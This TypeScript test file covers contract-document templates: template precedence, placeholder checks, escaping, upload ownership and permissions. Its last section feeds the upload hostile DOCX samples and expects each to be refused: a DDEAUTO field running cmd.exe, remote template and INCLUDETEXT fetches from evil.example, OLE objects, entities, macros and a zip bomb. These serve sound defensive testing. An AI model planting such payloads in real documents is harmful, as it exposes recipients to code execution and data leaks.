import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { statusAndReason, startApp, type TestApp } from '../../support/app.ts'
import { contractsOf, newCustomer, type Made } from '../../support/contracts.ts'
import { textDocx, textsOf, useTemplate, withDocxPart } from '../../support/docx.ts'
import { zipOf } from '../../support/ugly/parts.ts'

let app: TestApp
let contract: Made
let turn = 0
beforeAll(async () => {
  app = await startApp({ clock: () => '2026-11-21T04:00:00.000Z' })
})
afterAll(() => app.close())
beforeEach(async () => {
  turn += 1
  contract = await contractsOf(app).draft(await newCustomer(app, `模板客户${turn}`))
})

const preview = (id: string) => app.download('contractDocument.preview', { id }, 'sw')
const sourceOf = async (id: string) =>
  (await app.data('contractDocument.template', { id }, 'sw')).source

describe('a template of contracts', () => {
  test('is that of the product until the tenant has one, and that of the tenant until the contract has one', async () => {
    expect(await sourceOf(contract.id)).toBe('product')
    await useTemplate(app, 'standard', await textDocx('本租户 {{合同编号}}'))
    expect(await sourceOf(contract.id)).toBe('tenant')
    expect(textsOf(await preview(contract.id))).toEqual([`本租户 ${contract['contractNo']}`])
    await useTemplate(app, contract.id, await textDocx('本合同 {{contractName}}'))
    expect(await sourceOf(contract.id)).toBe('contract')
    expect(textsOf(await preview(contract.id))).toEqual(['本合同 仓储服务合同'])
    await app.data('contractDocument.resetTemplate', { id: contract.id }, 'sw')
    expect(await sourceOf(contract.id)).toBe('tenant')
    await app.data('contractDocument.resetTemplate', { id: 'standard' }, 'sw')
    expect(await sourceOf(contract.id)).toBe('product')
    const again = await app.call('contractDocument.resetTemplate', { id: contract.id }, 'sw')
    expect(statusAndReason(again)).toEqual([409, 'contractTemplate.isReset'])
    const { changes } = await app.data('contractDocument.template', { id: contract.id }, 'sw')
    expect(changes.map((each: any) => [each.revision, each.name])).toEqual([
      [2, ''],
      [1, '模板.docx'],
    ])
  })

  test('of the product can be taken, uploaded as it is, and says parties and prices row by row', async () => {
    const bytes = await app.download('contractDocument.templateFile', { id: 'standard' }, 'sw')
    expect(textsOf(bytes)).toContain('{{合同名称}}')
    expect(await useTemplate(app, contract.id, bytes)).toMatchObject({ body: { code: 200 } })
    const texts = textsOf(await preview(contract.id))
    expect(texts).toEqual(expect.arrayContaining(['甲方', '付款方', `模板客户${turn}`, '1', '2']))
    expect(texts.join()).not.toMatch(/[{}]/)
  })

  test('that names what no contract knows is refused with those placeholders, lists and headers included', async () => {
    const texts = [
      '{{合同编号}} {{合同编码}}',
      '{{#报价明细}}{{序号}} {{单价}}{{/报价明细}}',
      '{{序号}} {{#明细}}{{/明细}}',
      '{{@remark}} {{=<% %>=}}',
    ]
    const { status, body } = await useTemplate(app, contract.id, await textDocx(...texts))
    expect([status, body.msg]).toEqual([
      400,
      '模板「模板.docx」中有无法识别的占位符：{{合同编码}}、{{单价}}、{{序号}}、{{明细}}、{{@remark}}、{{=<% %>=}}；请对照占位符清单改正后再上传',
    ])
    expect(await sourceOf(contract.id)).toBe('product')
  })

  test.each(['{{合同编号', '合同编号}}', '{{#报价明细}}{{序号}}', '{{/报价明细}}'])(
    'with half a placeholder is refused: %s',
    async (text) => {
      const answer = await useTemplate(app, contract.id, await textDocx(text))
      expect(statusAndReason(answer)).toEqual([400, 'contractTemplate.broken'])
    },
  )

  test('is filled with what was typed as text, whatever it says', async () => {
    const remark = '<w:p/>&{{合同编号}}\n第二行'
    const draft = await contractsOf(app).draft(await newCustomer(app, `注入客户${turn}`), {
      remark,
    })
    await useTemplate(app, draft.id, await textDocx('{{备注}}'))
    expect(textsOf(await preview(draft.id)).join()).toContain('&lt;w:p/&gt;&amp;{{合同编号}}')
  })

  test('is a docx, and belongs to that contract', async () => {
    const other = await contractsOf(app).draft(await newCustomer(app, `别家${turn}`))
    const fields = { uploadModuleCode: 'HTMB', businessId: other.id, docType: 'HTMB' }
    const file = { name: '别家.docx', bytes: await textDocx('{{合同编号}}') }
    const { body } = await app.form('file.upload', { fields, file }, 'sw')
    for (const url of [
      `/api/lh-wms/file/download?id=${body.data.id}`,
      'https://example.com/a.docx',
    ]) {
      const answer = await app.call(
        'contractDocument.uploadTemplate',
        { id: contract.id, url },
        'sw',
      )
      expect(statusAndReason(answer)).toEqual([400, 'contractTemplate.noFile'])
    }
    const foreign = await app.call('contractDocument.template', { id: contract.id }, 'sw.zjwl')
    expect(foreign.status).toBe(404)
    const reader = { id: 'standard', url: 'x?id=1' }
    expect((await app.call('contractDocument.uploadTemplate', reader, 'kf')).status).toBe(403)
  })
})

const relations = (type: string, target: string, mode = ' TargetMode="External"') =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`
const field = (code: string) =>
  `<?xml version="1.0"?><w:ftr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:r><w:instrText>${code.slice(0, 2)}</w:instrText></w:r><w:r><w:instrText>${code.slice(2)}</w:instrText></w:r></w:p></w:ftr>`

describe('a hostile docx', () => {
  test.each([
    [
      'a template that is fetched',
      'word/_rels/settings.xml.rels',
      relations('attachedTemplate', 'http://evil.example/a.dotm'),
      'external',
    ],
    [
      'a picture that is fetched',
      'word/_rels/footer1.xml.rels',
      relations('image', 'file://host/share/a.png'),
      'external',
    ],
    [
      'an object',
      'word/_rels/footer1.xml.rels',
      relations('oleObject', 'embeddings/a.bin', ''),
      'embedded',
    ],
    ['an embedded file', 'word/embeddings/a.bin', 'x', 'embedded'],
    ['a field that runs a program', 'word/footer1.xml', field('DDEAUTO c:\\\\cmd.exe'), 'external'],
    [
      'a field that fetches',
      'word/footer1.xml',
      field('INCLUDETEXT "http://evil.example"'),
      'external',
    ],
    ['entities', 'word/footer1.xml', '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', 'damaged'],
  ])('with %s is refused', async (_what, name, content, reason) => {
    const bytes = await withDocxPart(['{{合同编号}}'], name, content)
    const answer = await useTemplate(app, contract.id, bytes)
    expect(answer.body.data?.reason).toBe(`contractTemplate.${reason}`)
    expect(await sourceOf(contract.id)).toBe('product')
  })

  test('with macros, and one that unpacks to more than a text has, are refused where they arrive', async () => {
    const macro = await useTemplate(
      app,
      contract.id,
      await withDocxPart([''], 'word/vbaProject.bin', 'x'),
    )
    expect(statusAndReason(macro)).toEqual([415, 'file.macro'])
    const bomb = zipOf({
      '[Content_Types].xml': '<Types/>',
      'word/document.xml': Buffer.alloc(80 * 1024 * 1024, 32),
    })
    const answer = await useTemplate(app, contract.id, bomb)
    expect(answer.body.data?.reason).toMatch(/bomb|tooLarge|damaged/)
  })

  test('may have links that somebody clicks', async () => {
    const link = relations('hyperlink', 'https://example.com/terms')
    const bytes = await withDocxPart(['{{合同编号}}'], 'word/_rels/footer1.xml.rels', link)
    expect(await useTemplate(app, contract.id, bytes)).toMatchObject({ body: { code: 200 } })
  })
})
